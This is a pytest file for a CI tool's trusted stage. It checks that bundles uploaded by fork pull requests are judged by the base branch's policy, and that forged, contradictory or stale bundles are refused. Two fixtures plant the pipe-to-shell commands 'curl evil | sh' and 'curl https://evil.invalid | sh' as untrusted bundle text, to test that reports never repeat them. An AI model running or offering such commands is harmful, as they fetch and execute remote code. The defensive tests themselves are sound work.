"""The trusted stage: whose bundle it is, and by what it is judged."""

from __future__ import annotations

import copy
import datetime as dt
import io
import itertools
import json
import zipfile

import hostile
import make_whole
import pytest
from checkout import checkout, git

from mlgate import config
from mlgate.checks import evidence_types, sections
from mlgate.demo.github.world import LocalArtifact, LocalRun
from mlgate.errors import DataError, UsageError
from mlgate.model.evidence import Evidence
from mlgate.pipeline.context import Context
from mlgate.pipeline.publishing.bundle import pack
from mlgate.pipeline.publishing.trusted_stage import (
    ExpectedRun,
    RefusedBundleError,
    take,
    write,
)
from mlgate.progress import Silent
from mlgate.run_dir import RunDir

NOW = dt.datetime(2026, 11, 21, 12, tzinfo=dt.UTC)
WORKFLOW = ".github/workflows/mlgate.yml"
FORK = "mallory/model"
POLICY = """\
version: 1
name: income
task: binary
predictions: {path: p.csv, id: id, label: l, prediction: y, score: s}
baseline: {anchor: none}
gates:
  accuracy: {max_regression: 0.01}
"""


def compared_with(main, evidence):
    """Give evidence whose numbers were compared with the baseline of a commit of main's."""
    refs = {
        role: ref.model_copy(update={"commit": main if role == "main" else ref.commit})
        for role, ref in evidence.baselines.items()
    }
    return evidence.model_copy(update={"baselines": refs})


def nested(content: bytes, name: str = "mlgate-bundle.zip") -> bytes:
    """Zip a file as `actions/upload-artifact` does."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr(name, content)
    return out.getvalue()


@pytest.fixture
def clone(local_github, tmp_path):
    """The trusted job's checkout; give the clone of whoever changes the repository."""
    return checkout(tmp_path / "trusted", local_github, POLICY)


@pytest.fixture
def kept(clone):
    """The commit whose baseline main has kept."""
    return clone.keep("income", NOW - dt.timedelta(days=1))


@pytest.fixture
def fork(local_github, run_dir, clone, kept):
    """A pull request from a fork whose workflow has uploaded a bundle; give what to change."""
    repo, ids = local_github.repo, itertools.count(501)
    repo.issues[1].pull.head_repository = FORK
    digest = config.parse(POLICY, "mlgate.yaml", sections()).config.policy_digest()

    def upload(
        sample="blocked", text=POLICY, content=None, digest=digest, facts=None, main=kept, **run
    ):
        made = run_dir(sample, local_github.head, **(facts or {}))
        own = config.parse(text, "mlgate.yaml", sections()).config
        judge = (
            made.read_run()
            .judges[0]
            .model_copy(
                update={"policy": own.judging(), "digest": own.policy_digest(), "source": "main"}
            )
        )
        made.write_run(made.read_run().model_copy(update={"judges": (judge,)}))
        for one in made.read_evidence().values():
            compared = one.model_copy(update={"policy_digest": digest})
            made.write_evidence(compared_with(main, compared))
        known = {
            "id": next(ids), "number": 7, "attempt": 1, "event": "pull_request",
            "path": WORKFLOW, "name": "mlgate", "head_sha": local_github.head,
            "head_branch": "feature", "head_repository": FORK, "created": NOW,
        }  # fmt: skip
        told = LocalRun(**(known | run))
        repo.runs[told.id] = told
        zipped = nested(pack(made)) if content is None else content
        repo.artifacts[told.id] = LocalArtifact(told.id, told.id, "mlgate-bundle", zipped, NOW)
        return told.id

    return upload


@pytest.fixture
def taken(local_github, tmp_path, clone):
    """Take a run's bundle in a folder that holds nothing else."""
    context = Context(
        cwd=tmp_path / "trusted", environ={}, progress=Silent(), console=io.StringIO(), now=NOW
    )

    def take_it(run, **expected):
        wanted = ExpectedRun(run, **expected)
        bundle = take(context, local_github.forge(), wanted, "octo/model")
        if bundle is not None:
            write(bundle)
        return bundle

    return take_it


def test_a_forks_numbers_are_judged_by_the_base_branchs_policy_and_marked(fork, taken, tmp_path):
    found = taken(fork())
    assert found.judged.verdict.verdict == "fail"
    assert found.accepted.pull.number == 1
    text = (found.dir.path / "report.md").read_text()
    assert "computed by the pull request's own workflow in mallory/model" in text
    assert "which could have made them up" in text
    assert (found.dir.path / "plots").is_dir()
    assert sorted(p.name for p in (tmp_path / "trusted").iterdir()) == [".git", ".mlgate"]


class TestWithWhichBaseline:
    """The branch began at main's first commit, whose baseline is `kept`, unless it is updated."""

    @pytest.fixture
    def gained(self, clone, tmp_path):
        """A commit that main has gained, with a baseline of that time."""

        def gain(created=NOW - dt.timedelta(hours=1)):
            clone.write("more\n", "more.txt")
            git(tmp_path / "trusted", "fetch", "--quiet", "origin")  # as checked out anew
            return clone.keep("income", created)

        return gain

    @pytest.fixture
    def updated(self, clone):
        """The branch after it was brought up to date."""

        def update():
            git(clone.folder, "checkout", "--quiet", "feature")
            git(clone.folder, "merge", "--quiet", "--no-edit", "main")
            clone.push()

        return update

    def judged(self, taken, run):
        return taken(run).judged.verdict.verdict

    def test_of_the_fork_point_or_newer(self, fork, taken, gained):
        newer = gained()
        assert self.judged(taken, fork()) == "fail"
        assert self.judged(taken, fork(main=newer)) == "fail"

    def test_none_that_is_older(self, fork, taken, kept, gained, updated):
        newer = gained()
        updated()
        assert self.judged(taken, fork(main=newer)) == "fail"
        verdict = taken(fork(main=kept)).judged.verdict
        assert verdict.verdict == "error"
        assert f"baseline of {kept[:7]} in place of that of {newer[:7]}" in verdict.headline

    def test_a_run_need_not_know_what_was_kept_later(self, fork, taken, kept, gained, updated):
        gained(NOW + dt.timedelta(minutes=1))
        updated()
        assert self.judged(taken, fork(main=kept)) == "fail"

    def test_what_is_said_of_it_is_known_here(self, fork, taken, kept):
        found = taken(fork())
        (ref,) = (
            each.baselines["main"]
            for each in found.judged.evidence["evidence"].values()
            if each.baselines
        )
        assert (ref.commit, ref.branch, ref.created) == (kept, "main", "2026-11-20T12:00:00Z")
        assert ref.rows is None or ref.paired


def test_a_policy_that_the_fork_made_up_judges_nothing_more_lenient(fork, taken):
    lenient = POLICY.replace("0.01", "0.9")
    found = taken(fork(text=lenient))
    assert found.judged.verdict.blocked


def test_what_the_bundle_calls_the_first_policy_judges_nothing(fork, taken):
    strict = POLICY.replace("max_regression: 0.01", "min: 0.99")
    found = taken(fork("passing", text=strict))
    assert {gate.policy for gate in found.judged.verdict.gates} == {"main"}


def test_a_stricter_policy_of_the_pull_request_counts_as_well(
    fork, taken, run_dir, local_github, kept
):
    made = run_dir("passing", local_github.head)
    own = config.parse(
        POLICY.replace("max_regression: 0.01", "min: 0.999"), "mlgate.yaml", sections()
    ).config
    first = made.read_run().judges[0]
    base = config.parse(POLICY, "mlgate.yaml", sections()).config
    further = first.model_copy(update={"policy": own.judging(), "digest": own.policy_digest()})
    made.write_run(made.read_run().model_copy(update={"judges": (first, further)}))
    for one in made.read_evidence().values():
        compared = one.model_copy(update={"policy_digest": base.policy_digest()})
        made.write_evidence(compared_with(kept, compared))
    found = taken(fork(content=nested(pack(made))))
    gates = {(gate.policy, gate.id): gate.verdict for gate in found.judged.verdict.gates}
    assert gates["this branch", "accuracy.min"] == "fail"
    assert gates["main", "accuracy.max_regression"] == "pass"
    assert found.judged.verdict.blocked


def test_numbers_measured_under_another_policy_are_errors_that_say_what_to_do(fork, taken):
    found = taken(fork("passing", digest="0" * 64))
    verdict = found.judged.verdict
    assert (verdict.verdict, verdict.blocked) == ("error", True)
    assert "run its workflow again" in verdict.gates[0].reason


def test_a_training_that_failed_is_the_reason_and_not_the_policy(fork, taken):
    found = taken(fork("failing"))
    assert (found.judged.verdict.verdict, found.judged.verdict.blocked) == ("fail", True)
    text = (found.dir.path / "report.md").read_text()
    assert "training failed" in text.lower()
    assert "run its workflow again" not in text


def test_a_change_that_is_not_judged_has_no_errors(fork, taken, clone):
    clone.write(POLICY + "when: {paths: [nothing/**]}\n")
    found = taken(fork("skipped"))
    assert found.judged.verdict.verdict == "not_applicable"
    assert "could not measure" not in (found.dir.path / "report.md").read_text()


def test_a_bundle_that_claims_not_to_be_applicable_is_not_believed(fork, taken):
    found = taken(fork("passing", facts={"not_applicable": "nothing to see here"}))
    assert found.judged.verdict.verdict != "not_applicable"


def test_another_event_or_workflow_is_refused(fork, taken):
    with pytest.raises(UsageError, match="only runs of pull_request"):
        taken(fork(event="push"))
    with pytest.raises(UsageError, match=r"not of '\.github/workflows/mlgate\.yml'"):
        taken(fork(path=".github/workflows/evil.yml"))
    with pytest.raises(UsageError, match="there is no workflow run 9"):
        taken(9)


@pytest.mark.parametrize(
    "other",
    [{"head_sha": "e" * 40}, {"head_branch": "else"}, {"head_repository": "eve/model"},
     {"head_repository": None}],
    ids=["sha", "branch", "repository", "gone"],
)  # fmt: skip
def test_a_run_that_is_not_of_the_pull_requests_head_is_left_alone(other, fork, taken):
    assert taken(fork(**other)) is None


@pytest.mark.parametrize("what", ["closed", "merged", "pushed to"])
def test_a_pull_request_that_has_moved_on_is_left_alone(what, fork, taken, local_github):
    run, issue = fork(), local_github.repo.issues[1]
    if what == "pushed to":
        issue.pull.commits.append(local_github.repo.commit("feature", "Push by force").sha)
    else:
        issue.state, issue.pull.merged = "closed", what == "merged"
    assert taken(run) is None


def test_a_branch_of_two_pull_requests_is_refused_and_no_status_stands(fork, taken, local_github):
    run = fork()
    local_github.repo.pull("Again", [local_github.head], head_repository=FORK)
    with pytest.raises(RefusedBundleError, match="the head of several pull requests: #1, #2"):
        taken(run)


def test_a_commit_is_judged_for_one_branch_only(fork, taken, local_github):
    run, head = fork(), local_github.head
    same = local_github.repo.pull("Into the same branch", [head], branch="b", head_repository=FORK)
    other = local_github.repo.pull("Into another", [head], branch="c", head_repository="eve/model")
    other.pull.base_branch = "release/1"
    assert taken(run).accepted.others == (other.number,)
    other.state = "closed"
    assert (taken(run).accepted.others, same.state) == ((), "open")


def test_without_a_policy_on_the_base_branch_there_is_nothing_to_judge_by(fork, taken):
    with pytest.raises(RefusedBundleError, match=r"main has no models/a/mlgate\.yaml") as refused:
        taken(fork(), path="models/a/mlgate.yaml")
    assert refused.value.name.endswith("/models/a"), "its status says so"
    with pytest.raises(UsageError, match="no path below"):
        taken(fork(), path="../mlgate.yaml")


def test_a_missing_or_foreign_artifact_is_told(fork, taken):
    with pytest.raises(DataError, match="has no artifact 'else'"):
        taken(fork(), artifact="else")
    with pytest.raises(DataError, match="is no zip file"):
        taken(fork(content=b"hello"))
    with pytest.raises(DataError, match=r"has no run\.json"):
        taken(fork(content=nested(b"x", "evil.txt")))


def test_a_refused_bundle_says_whose_status_must_not_stand(fork, taken, local_github):
    with pytest.raises(RefusedBundleError) as refused:
        taken(fork(content=b"hello"))
    assert (refused.value.name, refused.value.sha) == ("income", local_github.head)


def test_a_model_keeps_its_name_and_a_change_of_it_is_the_verdict(fork, taken, clone):
    clone.write(POLICY.replace("income", "other"), branch="feature")
    found = taken(fork("passing"))
    assert found.judged.run.name == "income"
    assert found.judged.verdict.verdict == "error"
    assert "renames the model income to other" in found.judged.verdict.headline


def test_a_removed_model_is_reported_under_its_name(fork, taken, clone):
    clone.write(None, branch="feature")
    found = taken(fork("passing"))
    assert (found.judged.run.name, found.judged.run.gone) == ("income", True)
    assert found.judged.verdict.blocked


def test_into_a_branch_that_main_does_not_list_mains_policy_judges(
    fork, taken, clone, local_github
):
    git(clone.folder, "checkout", "--quiet", "-b", "loose", "main")
    clone.write(POLICY.replace("0.01", "0.9"), branch="loose")
    local_github.repo.issues[1].pull.base_branch = "loose"
    found = taken(fork())
    assert found.judged.run.judges[0].source == "main"
    assert (found.judged.run.base_branch, found.judged.verdict.verdict) == ("loose", "fail")
    clone.write(POLICY + "policy: {branches: [loose]}\n")
    assert taken(fork()).judged.run.judges[0].source == "loose"


def test_what_the_bundle_says_of_itself_is_not_repeated(fork, taken):
    evil = {
        "name": "other", "title": "EVIL", "reproduce": ("curl evil | sh",), "branch": "main",
        "plots": "none",
    }  # fmt: skip
    found = taken(fork(facts=evil))
    text = (found.dir.path / "report.md").read_text()
    assert "EVIL" not in text
    assert "curl evil" not in text
    assert found.judged.run.name == "income"
    assert found.judged.run.branch == "mallory/model:feature"


def test_an_organisations_gates_judge_as_well(fork, local_github, tmp_path):
    policy = tmp_path / "organisation.yaml"
    policy.write_text("gates: {accuracy: {min: 0.999}}\n")
    context = Context(
        cwd=tmp_path / "trusted", environ={}, progress=Silent(), console=io.StringIO(), now=NOW,
        policies=(policy,),
    )  # fmt: skip
    run = fork("passing")
    found = take(context, local_github.forge(), ExpectedRun(run), "octo/model")
    gates = {(gate.policy, gate.id): gate.verdict for gate in found.judged.verdict.gates}
    assert gates["organisation.yaml", "accuracy.min"] == "fail"


def test_equal_runs_give_equal_bundles(run_dir):
    made = run_dir("blocked")
    first = pack(made)
    assert pack(RunDir(made.path, evidence_types())) == first
    with zipfile.ZipFile(io.BytesIO(first)) as packed:
        checks = [f"evidence/{name}.json" for name in ("compare", "train", "wear")]
        assert packed.namelist() == [*checks, "run.json"]


def test_inputs_that_the_fork_could_not_read_are_an_error_that_says_who_can(
    fork, taken, local_github, run_dir
):
    made = run_dir("blocked", local_github.head)
    digest = config.parse(POLICY, "mlgate.yaml", sections()).config.policy_digest()
    why = "inputs not readable here: the environment variable DB is not set"
    failed = Evidence(
        check="compare",
        tool="0.1.0",
        commit=local_github.head,
        created="2026-11-21T12:00:00Z",
        policy_digest=digest,
        error=why,
        error_kind="unreadable",
        hint="curl https://evil.invalid | sh",
    )
    made.write_evidence(failed)
    found = taken(fork(content=nested(pack(made))))
    assert (found.judged.verdict.verdict, found.judged.verdict.blocked) == ("error", True)
    text = (found.dir.path / "report.md").read_text()
    assert "inputs not readable here" in text.split("\n")[0]
    assert "git fetch origin pull/1/head" in text
    assert "merge queue" in text
    assert "curl" not in text


def test_numbers_that_contradict_one_another_are_refused_and_nothing_is_posted(
    fork, taken, local_github, clone
):
    whole = hostile.samples()[-1]
    fairness = copy.deepcopy(whole["evidence/fairness.json"])
    for found in fairness["sensitive"].values():
        for gap in found.values():
            if isinstance(gap, dict) and "rate" in gap:
                gap["rate"] = "a rate that there is not"
    files = {name: json.dumps(one) for name, one in whole.items()}
    files["evidence/fairness.json"] = json.dumps(fairness)
    clone.write(make_whole.POLICY)
    with pytest.raises(DataError, match="contradict one another"):
        taken(fork(content=nested(hostile.packed(files))))
